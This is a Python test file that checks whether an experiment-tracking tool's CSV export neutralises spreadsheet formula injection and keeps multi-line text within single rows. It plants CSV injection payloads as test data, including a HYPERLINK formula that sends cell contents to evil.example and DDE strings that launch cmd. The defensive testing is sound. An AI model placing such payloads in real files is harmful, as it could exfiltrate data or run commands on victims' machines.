"""table.csv is safe to open in a spreadsheet: formula-like text is quoted, rows stay rows.

Planted: runs whose inference, string parameters and a parameter's name start
like formulas (``=HYPERLINK``, ``+1+cmd|…``, ``@SUM``, ``-2+3``, a tab, a
carriage return) and whose text holds line breaks. Read back with Python's csv
and with pandas: one row per run, every such cell prefixed with ``'``, numbers
(``-0.5``) still numbers.
"""

from __future__ import annotations

import csv
import io

import pandas as pd

from nbjournal.store import Store

from .helpers import make_run

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


async def test_formula_cells_are_quoted_and_line_breaks_keep_rows(store: Store, api) -> None:
    ids = []
    for index, formula in enumerate(FORMULAS):
        ids.append(make_run(store, "csv attack", params={"lr": -0.5 * (index + 1),
                                                       "opt": formula, "=cmd": f"x{index}"},
                            inference=f"line one\rline two\r\n{formula}"))  # fmt: skip
    response = await api("experiments", "csv attack", "table.csv", params={"sort": "lr"})
    assert response.code == 200
    text = response.body.decode()

    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert sorted(int(r["id"]) for r in rows) == sorted(ids)  # one row per run
    assert "'=cmd" in rows[0]  # a parameter's name is a cell too
    opts = sorted(r["opt"] for r in rows)
    assert opts == sorted("'" + f.replace("\r", "\n") for f in FORMULAS)
    for row in rows:
        assert row["inference"].startswith("line one\nline two\n")
        assert float(row["lr"]) < 0  # numbers are left alone
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")) or value == ""
            assert not (value.startswith("-") and not _number(value))

    frame = pd.read_csv(io.StringIO(text))
    assert len(frame) == len(FORMULAS) and frame["lr"].dtype.kind == "f"
    assert set(frame["opt"]) == {"'" + f.replace("\r", "\n") for f in FORMULAS}


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
